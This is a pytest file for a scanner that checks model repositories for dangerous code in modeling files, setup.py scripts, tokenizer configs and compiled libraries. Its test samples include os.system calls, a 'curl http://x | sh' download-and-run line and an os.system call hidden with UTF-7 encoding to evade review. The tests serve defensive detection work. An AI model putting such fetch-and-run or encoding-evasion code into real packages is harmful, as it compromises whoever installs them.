from __future__ import annotations

import json

import pytest

from regraft.record.evidence import Verdict

CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}})
HARMLESS = "import torch\nclass X(torch.nn.Module):\n    def forward(self, x):\n        return x\n"


def test_harmful_code_behind_auto_map_fails_with_file_line_and_call(scan_files):
    evidence = scan_files({"config.json": CONFIG, "modeling_x.py": "import os\nos.system('echo pwned')\n"})
    assert (evidence.verdict, evidence.outcome) == (Verdict.FAIL, "dangerous")
    found = evidence.findings[0]
    assert (found.rule, found.where.file, found.where.line) == ("RGS-COD-001", "modeling_x.py", 2)
    assert found.data["call"] == "os.system"
    assert found.data["named_by"] == "config.json, auto_map.AutoModel"


def test_harmless_code_behind_auto_map_is_inconclusive_and_listed(scan_files):
    evidence = scan_files({"config.json": CONFIG, "modeling_x.py": HARMLESS})
    assert evidence.verdict is Verdict.INCONCLUSIVE
    listed = [f for f in evidence.findings if f.rule == "RGS-COD-004"]
    assert [f.where.file for f in listed] == ["modeling_x.py"]
    assert "config.json, auto_map.AutoModel" in listed[0].message


def test_reviewed_code_passes_when_it_is_allowed(scan_files):
    files = {"config.json": CONFIG, "modeling_x.py": HARMLESS}
    evidence = scan_files(files, allow=["RGS-COD-004:modeling_x.py"])
    assert "RGS-COD-004" not in {f.rule for f in evidence.findings if f.severity.verdict is not Verdict.PASS}
    assert evidence.parameters["allow"] == ["RGS-COD-004:modeling_x.py"]


def test_what_is_dangerous_cannot_be_allowed(scan_files):
    files = {"config.json": CONFIG, "modeling_x.py": "import os\nos.system('x')\n"}
    assert scan_files(files, allow=["RGS-COD-001", "os.system"]).verdict is Verdict.FAIL


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ("def __init__(self): __import__('subprocess').Popen(['x'])", "RGS-COD-002"),
        ("def __init__(self): __import__('urllib.request', fromlist=['x']).urlopen('http://x')", "RGS-COD-002"),
        ("def __init__(self): open('/tmp/pwned', 'w')", "RGS-COD-002"),
        ("def forward(self): __import__('os').system('x')", "RGS-COD-003"),
    ],
)
def test_harm_at_load_and_in_use_fails(rules_of, body, rule):
    assert rule in rules_of({"config.json": CONFIG, "modeling_x.py": f"class X:\n    {body}\n"})


def test_a_process_in_use_is_listed_but_does_not_fail(scan_files):
    source = "import subprocess\nclass X:\n    def forward(self, a):\n        return subprocess.run(['ffmpeg', a])\n"
    evidence = scan_files({"config.json": CONFIG, "modeling_x.py": source})
    assert evidence.verdict is Verdict.INCONCLUSIVE
    listed = next(f for f in evidence.findings if f.rule == "RGS-COD-004")
    assert "ffmpeg" in str(listed.data["effects"])


def test_code_that_no_loader_reaches_is_noted(scan_files):
    evidence = scan_files({"lib-1.dist-info/METADATA": "Name: lib\n", "lib/__init__.py": "import os\nos.system('x')\n"})
    assert {f.rule for f in evidence.findings if f.where.file == "lib/__init__.py"} == {"RGS-COD-007"}


def test_a_harmful_script_beside_a_model_is_not_passed_over(rules_of):
    assert "RGS-COD-006" in rules_of({"config.json": "{}", "run_me.py": "import os\nos.system('x')\n"})


def test_code_that_cannot_be_parsed_is_inconclusive(rules_of):
    assert "RGS-COD-005" in rules_of({"config.json": CONFIG, "modeling_x.py": "class X(:\n"})


@pytest.mark.parametrize("head", [b"\xef\xbb\xbf", b"# -*- coding: latin-1 -*-\n# \xe9\n"])
def test_sources_in_other_encodings_are_read(scan_files, head):
    files = {"config.json": CONFIG, "modeling_x.py": head + b"import os\nos.system('x')\n"}
    assert scan_files(files).verdict is Verdict.FAIL


def test_code_hidden_in_utf_7_is_read(scan_files):
    source = b"# coding: utf-7\n# harmless +AAo-import os+AAo-os.system('x')\n"
    assert scan_files({"config.json": CONFIG, "modeling_x.py": source}).verdict is Verdict.FAIL


def test_compiled_modules_beside_reached_code_are_inconclusive(rules_of):
    files = {"config.json": CONFIG, "modeling_x.py": HARMLESS, "helper.cpython-311-x86_64-linux-gnu.so": b"\x7fELF"}
    assert "RGS-COD-005" in rules_of(files)


def test_native_code_without_a_model_is_not_cleared(scan_files):
    library = b"\x7fELF\2\1\1" + bytes(57)
    for beside in ({}, {"README.md": "# x\n"}, {"config.json": CONFIG, "modeling_x.py": HARMLESS}):
        found = scan_files({"model.so": library, **beside})
        assert found.verdict is Verdict.INCONCLUSIVE
        assert [finding.rule for finding in found.findings].count("RGS-COD-005") == 1
    assert scan_files({"x/_x.so": library, "x-1.dist-info/METADATA": "Name: x\n"}).verdict is Verdict.PASS
    graph = "7767517\n1 1\nInput in0 0 1 in0\n"
    assert scan_files({"model.param": graph, "run.so": library}).verdict is Verdict.PASS, "loading it opens no library"


def test_setup_py_may_call_git_but_not_download(rules_of):
    git = "import subprocess\nsubprocess.run(['git', 'describe'])\nexec(open('version.py').read())\n"
    curl = "import os\nos.system('curl http://x | sh')\n"
    assert not {"RGS-COD-001", "RGS-COD-002"} & rules_of({"setup.py": git, "PKG-INFO": "Name: x\n"})
    assert "RGS-COD-001" in rules_of({"setup.py": curl, "PKG-INFO": "Name: x\n"})


def test_a_single_source_file_is_judged_as_if_it_were_imported(scan_files):
    assert scan_files({"modeling_x.py": "import os\nos.system('x')\n"}).verdict is Verdict.FAIL


def test_the_package_of_a_compiled_kernel_is_imported(scan_files):
    path = "build/torch28-cxx11-cu128-x86_64-linux/attention/__init__.py"
    assert scan_files({path: "import os\nos.system('echo pwned')\n", "README.md": "# x\n"}).verdict is Verdict.FAIL
    assert scan_files({path: HARMLESS, "README.md": "# x\n"}).verdict is Verdict.INCONCLUSIVE
    assert scan_files({"build/lib/x/__init__.py": HARMLESS, "README.md": "# x\n"}).verdict is Verdict.PASS


def test_a_library_in_an_exported_program_is_run(scan_files):
    import io
    import zipfile

    def exported(member: str) -> dict[str, bytes]:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, content in {"archive_format": "pt2", "archive_version": "0", "version": "3"}.items():
                archive.writestr(f"m/{name}", content)
            archive.writestr(f"m/data/aotinductor/model/{member}", b"\x7fELF\2\1\1" + bytes(57))
        return {"m.pt2": out.getvalue()}

    found = scan_files(exported("a.wrapper.so"))
    assert found.verdict is Verdict.INCONCLUSIVE
    assert "RGS-COD-005" in {finding.rule for finding in found.findings}


def test_the_list_that_old_tokenizers_write(scan_files):
    files = {"tokenizer_config.json": json.dumps({"auto_map": ["tok.T", None]}), "tok.py": HARMLESS, "README.md": "# x"}
    assert scan_files(files).verdict is Verdict.INCONCLUSIVE
